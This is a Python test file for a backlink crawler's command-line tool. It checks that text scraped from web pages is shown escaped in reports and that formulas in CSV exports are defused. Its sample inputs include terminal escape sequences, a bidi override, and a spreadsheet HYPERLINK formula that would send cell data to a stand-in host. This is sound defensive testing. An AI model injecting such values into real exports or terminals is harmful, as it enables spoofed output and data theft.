"""Text from the web is data: what pages wrote never drives the operator's terminal."""

from __future__ import annotations

import csv
import io
import json
from datetime import datetime, timedelta, timezone

from backlinkspider.display import visible
from tests.support.cli import cli

TARGET = "acme-tools.com"
HOSTILE = [
    "[/]",
    "[link=http://x.example]y[/link]",
    "[bold]loud",
    "wipe\x1b[2J",
    "\x1b]8;;http://e.x\x1b\\go\x1b]8;;\x1b\\",  # an OSC 8 hyperlink
    "nul\x00byte",
    "\u202eevil",
    '=HYPERLINK("http://x.example/?"&A1,"win")',
]


def test_control_characters_and_bidi_overrides_are_shown_not_sent():
    assert visible("a\x1b[2Jb\x00c\x7f\x9b\u202ed\u2066") == "a\\x1b[2Jb\\x00c\\x7f\\x9b\\u202ed\\u2066"
    assert visible("[bold]é ü 中文 \u200b") == "[bold]é ü 中文 \u200b"  # markup is rich's business, not this


def _store(db) -> None:
    now = datetime.now(timezone.utc)
    docs = []
    for n, anchor in enumerate(HOSTILE):
        source = f"http://site{n}.example.org/[bold]{n}"
        docs.append({
            "source_url": source, "source_host": f"site{n}.example.org", "source_domain": "example.org",
            "target_url": f"https://{TARGET}/[/]{n}", "target_host": TARGET, "target_domain": TARGET,
            "anchor": anchor, "rel": [], "link_types": ["follow"], "kind": "text", "internal": False,
            "page_nofollow": False, "page_noindex": False, "first_seen": now - timedelta(days=2),
            "last_seen": now - timedelta(days=1), "failed_visits": 0, "target_status": 404, "broken": True,
            "target_error": "\x1b[31m[red]boom",
            "source_title": "[/]title\x1b[2J",
        })  # fmt: skip
    db.backlinks.insert_many(docs)


def test_report_prints_hostile_anchors_and_urls_literally(db):
    _store(db)
    done = cli(db, "report", TARGET, "--top", "20")
    out = done.stdout
    assert "\x1b" not in out and "\x00" not in out and "\u202e" not in out  # nothing reaches the terminal raw
    for anchor in HOSTILE:
        assert visible(anchor) in out, anchor
    assert f"https://{TARGET}/[/]0" in out  # URLs as written, brackets and all
    assert "Traceback" not in done.stderr


def test_report_json_keeps_the_exact_strings(db):
    _store(db)
    profile = json.loads(cli(db, "report", TARGET, "--json", "--top", "20").stdout)
    assert {row["anchor"] for row in profile["top_anchors"]} == set(HOSTILE)
    assert {row["target_url"] for row in profile["top_target_pages"]} == {
        f"https://{TARGET}/[/]{n}" for n in range(len(HOSTILE))
    }


def test_export_csv_round_trips_and_spreadsheet_safe_defuses_formulas(db):
    _store(db)
    plain = list(csv.DictReader(io.StringIO(cli(db, "export", TARGET).stdout)))
    assert {row["anchor"] for row in plain} == set(HOSTILE)  # the data as stored
    safe = list(csv.DictReader(io.StringIO(cli(db, "export", TARGET, "--spreadsheet-safe").stdout)))
    assert {row["anchor"] for row in safe} == {*HOSTILE[:-1], "'" + HOSTILE[-1]}
